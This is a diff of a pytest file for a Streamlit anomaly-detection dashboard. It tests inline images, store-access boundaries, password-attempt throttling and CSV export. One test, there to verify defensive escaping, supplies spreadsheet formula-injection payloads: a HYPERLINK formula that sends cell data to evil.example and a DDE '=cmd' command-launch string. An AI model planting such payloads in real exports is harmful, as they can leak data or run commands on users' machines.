@@ -2,14 +2,16 @@
 
 from __future__ import annotations
 
+import base64
 from pathlib import Path
 
 import numpy as np
 import pytest
 from streamlit.testing.v1 import AppTest
 
-from oddeye.store.sample import fill_sample_store
 from oddeye.store.api import open_store
+from oddeye.store.sample import fill_sample_store
+from oddeye.ui.common import artefact_map
 
 APP = str(Path(__file__).resolve().parents[1] / "oddeye" / "ui" / "app.py")
 
@@ -105,19 +107,58 @@ def test_3d_page_cloud_and_regions(app):
     assert "off the surface" in at.dataframe[0].value["reason"].iloc[0]
 
 
-def test_patrol_page_slider_moves_pictures(app):
+def test_patrol_page_slider_moves_pictures(app, filled):
     at, ids = app
     _goto(at, "Patrol", ids["patrol"])
-    assert [i.proto.imgs[0].caption for i in at.get("image")][:2] == ["reference", "query"]
-    at.slider(key=f"route_{ids['patrol']}").set_value(5)
+    pairs = open_store(filled[0]).samples(ids["patrol"], order="id")
+    top = max(range(len(pairs)), key=lambda i: pairs[i]["score"])
+    assert at.slider(key=f"route_{ids['patrol']}").value == top  # opens where the change is largest
+    caps = [i.proto.imgs[0].caption for i in at.get("image")]
+    assert caps[:2] == ["reference", "query"] and caps[2].startswith("change map")
+    low = min(range(len(pairs)), key=lambda i: pairs[i]["score"])  # no pictures recorded: frames from the runs
+    assert set(artefact_map(open_store(filled[0]), ids["patrol"], pairs[low]["id"])) == {"input"}
+    at.slider(key=f"route_{ids['patrol']}").set_value(low)
     at.run()
-    assert not at.exception
-    assert "pos005" in " ".join(c.value for c in at.caption)
+    assert not at.exception and not at.error and not at.warning
+    assert [i.proto.imgs[0].caption for i in at.get("image")][:2] == ["reference", "query"]
+    assert f"pos{low:03d}" in " ".join(c.value for c in at.caption)
     go = next(b for b in at.button if b.label.startswith("Go to event"))
     want = int(go.label.split("position ")[1].rstrip(")"))
     go.click()
     at.run()
     assert at.slider(key=f"route_{ids['patrol']}").value == want
+
+
+def test_every_picture_is_inline(app):
+    at, ids = app
+    seen = 0
+    for page, run in (("Video", "video"), ("Images", "images"), ("Patrol", "patrol")):
+        _goto(at, page, ids[run])
+        urls = [img.url for el in at.get("image") for img in el.proto.imgs]
+        assert urls and all(u.startswith("data:image/") for u in urls), page  # nothing served under /media
+        seen += len(urls)
+    assert seen >= 15
+
+
+def test_ui_reads_the_store_only_through_its_api():
+    import ast
+
+    from oddeye.store.api import Store
+
+    ui = Path(APP).parent
+    used, calls = set(), set()
+    for f in ui.glob("*.py"):
+        for node in ast.walk(ast.parse(f.read_text())):
+            if isinstance(node, ast.ImportFrom) and node.module and node.module.startswith("oddeye.store"):
+                used.add(node.module)
+            elif isinstance(node, ast.Import):
+                used |= {a.name for a in node.names if a.name.startswith("oddeye.store")}
+            elif isinstance(node, ast.Attribute):
+                calls.add(node.attr)
+    assert used == {"oddeye.store.api"}
+    writes = {"save_result", "delete_run", "update_run_metrics", "_session", "_write", "engine"}
+    assert writes <= set(dir(Store)) | {"_write", "engine"}
+    assert calls & writes == set()  # the dashboard writes labels and thresholds, nothing else
 
 
 def test_labels_page_filter_and_csv(app, filled):
@@ -130,11 +171,33 @@ def test_labels_page_filter_and_csv(app, filled):
     at.text_input(key="lab_by").set_value("zoe")
     at.run()
     assert at.dataframe[0].value["by"].tolist() == ["zoe"]
-    assert at.get("download_button")
     from oddeye.ui.page_labels import labels_csv
 
     lines = labels_csv(st_.labels(ids["patrol"])).splitlines()
     assert lines[0].startswith("id,run_id,head,event_id") and "zoe" in lines[1] and "dusk" in lines[1]
+    link = at.get("iframe")[0].proto.srcdoc  # the CSV travels inside the page, not as a file under /media
+    assert 'download="oddeye-labels.csv"' in link
+    csv_text = base64.b64decode(link.split("base64,")[1].split('"')[0]).decode()
+    assert csv_text.splitlines()[0] == lines[0] and "zoe" in csv_text
+
+
+def test_labels_csv_neutralises_formulas(filled):
+    import csv
+    import io
+
+    from oddeye.ui.page_labels import labels_csv
+
+    db, ids = filled
+    st_ = open_store(db)
+    sample = st_.samples(ids["images"])[1]
+    notes = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3+cmd", "@SUM(A1)", "\t=1", "plain - text"]
+    for note in notes:
+        st_.add_label(ids["images"], "unsure", sample_pk=sample["id"], by="=cmd|' /C calc'!A0", note=note)
+    rows = list(csv.DictReader(io.StringIO(labels_csv(st_.labels(ids["images"])[: len(notes)]))))
+    assert [r["note"] for r in rows][::-1] == ["'" + n for n in notes[:-1]] + ["plain - text"]
+    assert {r["by"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    neg = labels_csv([{"score": -1.5, "note": "ok", "sample_id": "-x"}]).splitlines()[1]
+    assert ",-1.5," in neg and ",'-x," in neg  # numbers stay numbers; text that starts with '-' is quoted
 
 
 def test_threshold_apply_from_runs_page(app, filled):
@@ -169,8 +232,12 @@ def test_missing_artefact_shows_message(app, filled):
         Path(sample["path"]).with_suffix(".moved").rename(sample["path"])
 
 
-def test_password_gate(filled, monkeypatch):
+def test_password_gate_slows_down_wrong_passwords(filled, monkeypatch):
+    from oddeye.ui import auth
+
     db, _ = filled
+    now = [1000.0]
+    monkeypatch.setattr(auth, "THROTTLE", auth.Throttle(clock=lambda: now[0]))
     monkeypatch.setenv("ODDEYE_UI_DB", str(db))
     monkeypatch.setenv("ODDEYE_UI_PASSWORD", "s3cret")
     at = AppTest.from_file(APP, default_timeout=60)
@@ -178,10 +245,32 @@ def test_password_gate(filled, monkeypatch):
     assert not at.sidebar.radio  # nothing but the gate
     at.text_input(key="password").set_value("wrong")
     at.run()
-    assert at.error and "Wrong password" in at.error[0].value
+    assert at.error and "Wrong password" in at.error[0].value and "1 s" in at.error[0].value
+    at.text_input(key="password").set_value("s3cret")  # the right one, but too soon: not even checked
+    at.run()
+    assert not at.sidebar.radio and "try again in 1 s" in at.error[0].value
+    now[0] += 1.0
+    at.text_input(key="password").set_value("wrong2")
+    at.run()
+    assert "after 2 s" in at.error[0].value  # the wait doubles
+    now[0] += 2.0
     at.text_input(key="password").set_value("s3cret")
     at.run()
-    assert at.sidebar.radio(key="page").value == "Runs"
+    assert at.sidebar.radio(key="page").value == "Runs" and not at.error
+    assert auth.THROTTLE.wait("unknown") == 0 and auth.THROTTLE.failed("unknown") == 1.0  # cleared by the right one
+
+
+def test_throttle_grows_per_client_up_to_a_cap():
+    from oddeye.ui.auth import Throttle
+
+    now = [0.0]
+    th = Throttle(first=1.0, cap=8.0, clock=lambda: now[0])
+    assert [th.failed("10.0.0.1") for _ in range(6)] == [1.0, 2.0, 4.0, 8.0, 8.0, 8.0]
+    assert th.wait("10.0.0.1") == 8.0 and th.wait("10.0.0.2") == 0.0  # another client is not held up
+    now[0] += 5.0
+    assert th.wait("10.0.0.1") == 3.0
+    th.passed("10.0.0.1")
+    assert th.wait("10.0.0.1") == 0.0 and th.failed("10.0.0.1") == 1.0
 
 
 def test_bad_store_is_a_message_not_a_crash(tmp_path, monkeypatch):
@@ -246,3 +335,20 @@ def test_timeline_downsampling_keeps_peaks_and_events():
     fig = timeline_figure(y, events=ev, threshold=0.5)
     assert sum(len(t.x) for t in fig.data) <= 2 * MAX_BINS * 2 + 500  # what the browser draws stays small
     assert len(fig.to_json()) < 400_000
+
+
+def test_picture_uri_and_page_for_run():
+    from oddeye.ui.common import page_for_run, picture_uri
+
+    small, big = np.zeros((8, 8, 3), np.uint8), np.zeros((600, 600), np.float32)
+    small[2, 3] = (255, 0, 0)
+    uri = picture_uri(small)
+    assert uri.startswith("data:image/png;base64,") and picture_uri(big).startswith("data:image/jpeg;base64,")
+    assert picture_uri(small[..., :1]).startswith("data:image/png")
+    import cv2
+
+    back = cv2.imdecode(np.frombuffer(base64.b64decode(uri.split(",", 1)[1]), np.uint8), cv2.IMREAD_COLOR)
+    assert tuple(back[2, 3]) == (0, 0, 255)  # RGB in, the same colour out (BGR as cv2 reads it)
+    assert [page_for_run(r) for r in ({"kind": "image", "head": "x"}, {"kind": "score", "head": "gaussian"},
+                                       {"kind": "demo", "head": "video-rules"}, {"kind": "eval", "head": "foo"})] == \
+        ["Images", "Images", "Video", None]
